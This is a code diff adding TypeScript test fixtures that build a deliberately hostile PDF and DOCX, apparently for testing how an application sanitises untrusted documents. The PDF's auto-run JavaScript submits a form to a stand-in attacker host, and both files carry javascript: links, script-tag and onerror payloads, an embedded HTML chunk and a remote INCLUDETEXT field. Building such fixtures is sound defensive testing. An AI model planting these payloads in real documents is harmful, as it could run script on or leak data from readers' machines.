@@ -138,3 +138,61 @@ export async function waitFor(condition: () => Promise<boolean> | boolean, what:
     await delay(5)
   }
 }
+
+/**
+ * A PDF that tries everything a hostile one can: JavaScript run on opening,
+ * a link to a `javascript:` URL and one to another host, a form that submits
+ * itself, an embedded file. Objects are written with exact xref offsets.
+ */
+export function hostilePdf(): Buffer {
+  const script = "app.alert('pdf script ran'); this.submitForm('http://attacker.invalid/steal');"
+  const content = 'BT /F1 18 Tf 56 780 Td (Hostile but harmless) Tj ET'
+  const embedded = '<script>alert("embedded")</script>'
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(run) 5 0 R] >> /EmbeddedFiles << /Names [(x.html) 8 0 R] >> >> /AcroForm << /Fields [] >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 6 0 R /Annots [7 0 R 9 0 R] /AA << /O 5 0 R >> >>',
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    `<< /S /JavaScript /JS (${script}) >>`,
+    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    "<< /Type /Annot /Subtype /Link /Rect [50 700 300 760] /A << /S /URI /URI (javascript:alert('link ran')) >> >>",
+    '<< /Type /Filespec /F (x.html) /EF << /F 10 0 R >> >>',
+    '<< /Type /Annot /Subtype /Link /Rect [50 600 300 660] /A << /S /URI /URI (http://attacker.invalid/) >> >>',
+    `<< /Length ${embedded.length} >>\nstream\n${embedded}\nendstream`,
+  ]
+  let out = '%PDF-1.7\n'
+  const offsets: number[] = []
+  objects.forEach((body, i) => {
+    offsets.push(out.length)
+    out += `${String(i + 1)} 0 obj\n${body}\nendobj\n`
+  })
+  const xref = out.length
+  out += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`
+  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`
+  out += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(xref)}\n%%EOF\n`
+  return Buffer.from(out, 'latin1')
+}
+
+/** A DOCX whose text is markup and whose parts reach for script: a `javascript:` link, an HTML chunk, a macro-free field. */
+export function hostileDocx(): Buffer {
+  const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
+  const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const text = (s: string) => `<w:p><w:r><w:t xml:space="preserve">${s}</w:t></w:r></w:p>`
+  const body =
+    `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>` +
+    text('&lt;img src=x onerror="document.title=\'pwned\'"&gt;') +
+    text('&lt;script&gt;alert("docx script ran")&lt;/script&gt;') +
+    `<w:p><w:hyperlink r:id="rIdJs"><w:r><w:t>Click me</w:t></w:r></w:hyperlink></w:p>` +
+    `<w:altChunk r:id="rIdHtml"/>` +
+    `<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://attacker.invalid/x&quot;"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>` +
+    `</w:body></w:document>`
+  return docxWith({
+    'word/document.xml': strToU8(body),
+    'word/_rels/document.xml.rels': strToU8(
+      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+        `<Relationship Id="rIdJs" Type="${R}/hyperlink" Target="javascript:alert('link ran')" TargetMode="External"/>` +
+        `<Relationship Id="rIdHtml" Type="${R}/aFChunk" Target="chunk.html"/></Relationships>`,
+    ),
+    'word/chunk.html': strToU8('<html><body><script>alert("chunk ran")</script></body></html>'),
+  })
+}
